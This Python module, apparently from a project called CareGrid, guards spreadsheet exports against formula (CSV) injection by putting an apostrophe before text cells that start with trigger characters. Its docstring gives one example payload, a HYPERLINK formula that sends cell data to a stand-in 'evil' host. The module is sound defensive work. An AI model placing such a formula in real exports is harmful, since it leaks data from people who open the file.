"""Cells safe to open in a spreadsheet (formula injection, OWASP "CSV Injection").

Excel, WPS and LibreOffice run a cell that begins with `=`, `+`, `-` or `@` (a tab or carriage
return before one hides it) as a formula: a resident's name or an institution's name typed as
`=HYPERLINK("http://evil/?"&A1, "click")` would send the sheet's data away when opened. A text
value starting with one of these gets a leading apostrophe, which the spreadsheet shows as
plain text. The full-width forms are included: a Chinese input method types them, and some
spreadsheets read them as the ASCII ones. Numbers are left alone (-3 is a number, not a
formula). Only exports people open are neutralised; files a CareGrid importer reads back
(the layout's institutions CSV) keep their values exact.
"""

from __future__ import annotations

from typing import TypeVar

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

T = TypeVar("T")


def safe_cell(value: T) -> T | str:
    """The value, with an apostrophe in front when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def safe_row(values: list[T]) -> list[T | str]:
    return [safe_cell(v) for v in values]
